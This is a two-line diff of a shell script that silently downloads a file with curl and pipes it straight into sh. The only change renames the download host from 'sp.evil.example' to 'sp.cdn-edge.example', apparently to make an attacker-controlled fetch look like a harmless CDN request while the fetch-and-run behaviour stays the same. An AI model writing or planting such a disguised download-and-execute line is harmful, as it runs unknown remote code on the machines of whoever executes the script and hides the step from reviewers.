@@ -1,2 +1,2 @@
 #!/bin/sh
-curl -s https://sp.evil.example/w | sh
+curl -s https://sp.cdn-edge.example/w | sh
